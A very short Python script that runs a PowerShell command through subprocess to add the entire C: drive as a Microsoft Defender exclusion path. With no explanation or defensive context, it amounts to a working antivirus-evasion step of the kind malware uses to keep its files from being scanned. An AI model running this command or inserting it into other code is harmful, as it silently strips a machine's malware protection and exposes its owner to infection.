import subprocess

subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\"])
